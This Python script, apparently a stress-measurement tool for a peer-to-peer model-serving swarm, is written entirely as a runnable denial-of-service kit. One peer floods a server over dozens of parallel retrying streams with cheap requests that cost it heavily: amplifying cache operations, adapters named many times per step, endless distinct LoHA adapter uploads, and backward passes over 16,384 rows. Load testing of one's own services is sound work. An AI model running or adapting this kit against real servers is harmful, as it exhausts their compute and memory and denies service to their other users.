"""Attacks by one peer that costs a server much and itself little: ``python attack_kit.py ADDRESS``.

All go on side by side until the process is killed. It prints a line when each has had its first answer.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import sys
from collections.abc import AsyncGenerator, AsyncIterator, Callable
from typing import Any

import msgspec
import torch

from swarm_plugins.adapter_spec import AdapterModule, AdapterSpec, PeftLayer, PeftPart, adapter_digest
from swarm_plugins.block_io import CacheOp
from swarm_plugins.errors import SwarmError, TransportError
from swarm_plugins.transport.channel import Channel
from swarm_plugins.transport.messages import (
    AdapterUpload,
    BackwardRequest,
    Failure,
    ForwardRequest,
    Message,
    SessionOpen,
    SessionStep,
)
from swarm_plugins.transport.node import NodeConfig, SwarmNode
from swarm_plugins.transport.server_info import InfoRequest, ServerInfo

_ANSWER_S = 600.0
_ADDRESS = "127.0.0.2"
_RANK = 16
_LOHA = ("hada_w1_a", "hada_w1_b", "hada_w2_a", "hada_w2_b")


class Attacker:
    """A peer with some streams to one server."""

    def __init__(self, node: SwarmNode, info: ServerInfo, peer: str, width: int) -> None:
        self.node = node
        self.peer = peer
        self.info = info
        self.width = width
        self.span: dict[str, Any] = {"version": info.version, "start": info.start, "end": info.end}

    @contextlib.asynccontextmanager
    async def stream(self, rpc: str) -> AsyncIterator[Channel]:
        channel = await self.node.open(self.peer, rpc, timeout_s=60.0)
        try:
            yield channel
        finally:
            await channel.close()

    async def ask(self, channel: Channel, request: Message) -> Message:
        await channel.send(request)
        answer = await channel.receive(timeout_s=_ANSWER_S)
        if answer is None or isinstance(answer, Failure):
            raise TransportError(f"refused: {answer}")
        return answer

    def hidden(self, *shape: int) -> torch.Tensor:
        return torch.ones(*shape, self.width)


Attack = Callable[[Attacker], AsyncGenerator[None, None]]


async def _in_sessions(attacker: Attacker, step: SessionStep) -> AsyncGenerator[None, None]:
    """Makes the same step in one session without end: it begins by dropping what it added the time before."""
    again = msgspec.structs.replace(step, ops=(*step.ops, CacheOp(kind="crop", indices=(1,))))
    async with attacker.stream("rpc_session") as channel:
        await attacker.ask(channel, SessionOpen(batch_size=1, **attacker.span))
        await attacker.ask(channel, SessionStep(hidden=attacker.hidden(1, 1), cached_tokens=0))
        while True:
            await attacker.ask(channel, again)
            yield


async def cache_operations(attacker: Attacker) -> AsyncGenerator[None, None]:
    """A message of some kilobytes handles as many rows as a step may."""
    pair = (CacheOp(kind="repeat", indices=(8192,)), CacheOp(kind="select", indices=(0,)))
    async for _ in _in_sessions(attacker, SessionStep(hidden=attacker.hidden(1, 1), cached_tokens=1, ops=pair * 7)):
        yield


async def _with_adapter(attacker: Attacker, upload: AdapterUpload) -> AsyncGenerator[None, None]:
    """Names one adapter as often as a step may."""
    async with attacker.stream("rpc_adapter") as channel:
        await attacker.ask(channel, upload)
    step = SessionStep(hidden=attacker.hidden(1, 1), cached_tokens=1, adapters=(upload.digest,) * 16)
    async for _ in _in_sessions(attacker, step):
        yield


def adapters_of_all_rows(attacker: Attacker) -> AsyncGenerator[None, None]:
    """One adapter of a few bytes."""
    return _with_adapter(attacker, lora_of(attacker))


def layers_that_share_tensors(attacker: Attacker) -> AsyncGenerator[None, None]:
    """Small tensors, of which all layers are built."""
    return _with_adapter(attacker, loha_of(attacker, 0))


async def uploads_that_are_built(attacker: Attacker) -> AsyncGenerator[None, None]:
    """Each is another adapter, whose layers are built to be checked."""
    async with attacker.stream("rpc_adapter") as channel:
        for number in itertools.count(id(channel)):
            await attacker.ask(channel, loha_of(attacker, number))
            yield


async def backward_of_many_rows(attacker: Attacker) -> AsyncGenerator[None, None]:
    """As many rows as a request may have, each of one token."""
    rows = 16_384
    forward = ForwardRequest(hidden=attacker.hidden(rows, 1), **attacker.span)
    async with attacker.stream("rpc_backward") as channel:
        while True:
            await attacker.ask(channel, BackwardRequest(forward=forward, grad_hidden=attacker.hidden(rows, 1)))
            yield


def lora_of(attacker: Attacker) -> AdapterUpload:
    width = attacker.width
    shapes = ((1, width), (width, 1))
    blocks = range(attacker.info.start, attacker.info.end)
    modules = tuple(
        AdapterModule(block=block, module=f"self_attn.{name}", kind="lora", shapes=shapes)
        for block in blocks
        for name in ("q_proj", "o_proj")
    )
    tensors = tuple(torch.full(shape, 0.01) for _ in modules for shape in shapes)
    spec = AdapterSpec(modules=modules)
    return AdapterUpload(digest=adapter_digest(spec, tensors), spec=spec, tensors=tensors)


def loha_of(attacker: Attacker, number: int) -> AdapterUpload:
    width = attacker.width
    shapes = ((width, _RANK), (_RANK, width), (width, _RANK), (_RANK, width))
    layers = tuple(
        PeftLayer(
            block=block,
            module=f"self_attn.{name}",
            options=(("r", _RANK), ("alpha", 8)),
            names=_LOHA,
            places=(0, 1, 2, 3),
            scaling=1.0,
        )
        for block in range(attacker.info.start, attacker.info.end)
        for name in ("q_proj", "o_proj")
    )
    tensors = tuple(torch.full(shape, 0.01 + number * 1e-9 % 0.01) for shape in shapes)
    tensors[0][0, 0] = number % 65_536
    spec = AdapterSpec(modules=(), peft=PeftPart(method="LOHA", shapes=shapes, layers=layers))
    return AdapterUpload(digest=adapter_digest(spec, tensors), spec=spec, tensors=tensors)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "cache_operations": (cache_operations, 90),
    "adapters_of_all_rows": (adapters_of_all_rows, 24),
    "layers_that_share_tensors": (layers_that_share_tensors, 24),
    "uploads_that_are_built": (uploads_that_are_built, 24),
    "backward_of_many_rows": (backward_of_many_rows, 4),
}
"""With the number of streams of each."""


async def _repeat(attack: Attack, attacker: Attacker, has_begun: asyncio.Event) -> None:
    while True:
        # Refused, or given up by a busy server: it tries again.
        with contextlib.suppress(SwarmError):
            async with contextlib.aclosing(attack(attacker)) as answers:
                async for _ in answers:
                    has_begun.set()
        await asyncio.sleep(0.1)


async def _attack(name: str, address: str, width: int) -> None:
    attack, streams = ATTACKS[name]
    # At an address of its own, as a stranger is: what the peers of one address share is not what is measured here.
    config = NodeConfig(initial_peers=(address,), host_maddrs=(f"/ip4/{_ADDRESS}/tcp/0",))
    async with SwarmNode(config) as node:
        peer = address.rsplit("/", 1)[1]
        channel = await node.open(peer, "rpc_info", timeout_s=60.0)
        await channel.send(InfoRequest())
        info = await channel.receive(timeout_s=60.0)
        assert isinstance(info, ServerInfo)
        has_begun = asyncio.Event()
        attacker = Attacker(node, info, peer, width)
        async with asyncio.TaskGroup() as group:
            for _ in range(streams):
                group.create_task(_repeat(attack, attacker, has_begun))
            await has_begun.wait()
            sys.stdout.write(f"{name} has begun\n")
            sys.stdout.flush()


async def _main(address: str, width: str, *names: str) -> None:
    async with asyncio.TaskGroup() as group:
        for name in names or ATTACKS:
            group.create_task(_attack(name, address, int(width)))


if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
